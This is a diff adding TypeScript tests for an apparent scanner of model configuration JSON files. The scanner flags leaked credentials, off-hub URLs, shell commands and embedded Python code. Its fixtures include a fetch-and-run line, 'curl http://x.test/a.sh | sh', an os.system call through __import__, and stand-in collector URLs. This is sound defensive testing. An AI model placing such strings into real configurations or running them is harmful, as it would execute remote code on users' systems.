@@ -80,3 +80,69 @@ describe('YAML configurations', () => {
     );
   });
 });
+
+describe('indicators in model configurations', () => {
+  const rules = async (json: unknown, path = 'config.json') =>
+    (await scan(JSON.stringify(json), path)).findings.map((f) => `${f.ruleId}:${f.severity}`).sort();
+
+  it('reports credentials without printing them: vendor prefixes, key blocks, random values under secret-like keys', async () => {
+    const token = `hf_${'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z'}`;
+    const r = await scan(
+      JSON.stringify({ a: token, nested: { api_key: 'q9Z!x7Lp2Rt5', password: 'changeme' } }),
+    );
+    expect(r.findings.map((f) => `${f.ruleId}:${f.severity}`)).toEqual([
+      'HF-CONFIG-SECRET:medium',
+      'HF-CONFIG-SECRET:medium',
+    ]);
+    const text = JSON.stringify(r.findings);
+    expect(text).not.toContain(token);
+    expect(text).not.toContain('q9Z!x7Lp2Rt5');
+    expect(text).toContain('hf_a… (37 chars)');
+    expect(await rules({ k: '-----BEGIN RSA PRIVATE KEY-----\nMIIE' })).toEqual(['HF-CONFIG-SECRET:medium']);
+    expect(await rules({ aws: 'AKIAIOSFODNN7EXAMPLE' }, 'generation_config.json')).toEqual([
+      'HF-CONFIG-SECRET:medium',
+    ]);
+  });
+
+  it('reports URLs outside the hubs, shell commands and code; hub and paper URLs are normal', async () => {
+    expect(await rules({ callback: 'http://203.0.113.9:8080/collect' })).toEqual([
+      'HF-CONFIG-INDICATOR:medium',
+    ]);
+    expect(await rules({ post: 'curl http://x.test/a.sh | sh' })).toEqual([
+      'HF-CONFIG-INDICATOR:medium',
+      'HF-CONFIG-INDICATOR:medium',
+    ]);
+    expect(await rules({ init: "__import__('os').system('id')" })).toEqual(['HF-CONFIG-INDICATOR:medium']);
+    expect(
+      await rules({
+        _name_or_path: '/home/me/models/llama',
+        paper: 'https://arxiv.org/abs/1706.03762',
+        repo: 'https://huggingface.co/bert-base-uncased/resolve/main/vocab.txt',
+        code: 'https://github.com/huggingface/transformers',
+      }),
+    ).toEqual([]);
+  });
+
+  it('leaves tokenizer special tokens, templates and JSON that is not a configuration alone', async () => {
+    expect(
+      await rules(
+        {
+          pad_token: '<pad>',
+          eos_token: '</s>',
+          bos_token: { content: '<s>' },
+          use_auth_token: true,
+          token: null,
+        },
+        'tokenizer_config.json',
+      ),
+    ).toEqual([]);
+    expect(await rules({ url: 'http://evil.test/x' }, 'package.json')).toEqual([]);
+  });
+
+  it('stays bounded on hostile nesting', async () => {
+    const deep = `${'['.repeat(1000)}${']'.repeat(1000)}`;
+    const r = await scan(`{"a": ${deep}}`);
+    expect(r.findings.map((f) => `${f.ruleId}:${f.severity}`)).toEqual(['HF-CONFIG-INDICATOR:medium']);
+    expect(r.notAnalysed).toBe(1);
+  });
+});
